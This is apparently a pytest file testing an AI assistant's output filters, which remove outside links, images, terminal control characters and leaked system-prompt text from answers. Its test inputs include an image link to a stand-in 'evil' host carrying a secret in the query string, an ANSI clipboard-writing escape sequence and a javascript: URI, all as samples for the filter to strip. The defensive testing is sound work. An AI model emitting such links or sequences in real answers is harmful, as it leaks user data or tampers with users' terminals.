"""What may not stand in an answer is taken out of it."""

from __future__ import annotations

import pytest

from assistant.core.config import GuardsSection
from assistant.guards.run import Guards
from assistant.text.prompts import NOT_FOUND, SYSTEM

SOURCES = ("Apply at https://intra.example/leave. The form is 7.",)


@pytest.fixture(scope="module")
def plain() -> Guards:
    return Guards(GuardsSection())


@pytest.mark.parametrize(
    ("text", "left"),
    [
        ("Apply at https://intra.example/leave. [1]", "Apply at https://intra.example/leave. [1]"),
        ("See https://evil.example/x?q=1, now. [1]", "See [link removed], now. [1]"),
        ("See www.evil.example. [1]", "See [link removed]. [1]"),
        ("![x](https://evil.example/p.png?d=secret) Yes. [1]", "[image removed] Yes. [1]"),
        ("![x](https://intra.example/leave) Yes. [1]", "[image removed] Yes. [1]"),
        ("![x][ref] and ![y] and ![", "[image removed] and [image removed] and !["),
        ('<img src="https://evil.example"> Yes. [1]', "[image removed] Yes. [1]"),
        ("a\x1b[31mb\x9b1mc\x1b]52;c;aGk=\x07d", "a[control characters removed]b[control characters removed]c"
         "[control characters removed]d"),
        (f"{NOT_FOUND} [1]", "[instructions of the assistant removed] [1]"),
        ("javascript:alert(1) [1]", "[link removed]) [1]"),
        ("The form is 7. [1]\nIt is due on 3 May. [1]", "The form is 7. [1]\nIt is due on 3 May. [1]"),
    ],
)  # fmt: skip
def test_an_answer_holds_only_what_it_may(plain: Guards, text: str, left: str) -> None:
    assert plain.output(text, SOURCES).text == left


def test_the_prompt_is_not_told_in_whole_or_in_part(plain: Guards) -> None:
    first = SYSTEM.split(".")[0]
    assert plain.output(f"I was told: {first}.", SOURCES).action == "redact"
    assert first not in plain.output(f"I was told: {first}.", SOURCES).text
    assert plain.output(f"The policy says: {first}.", (f"{first}.",)).action == "allow"
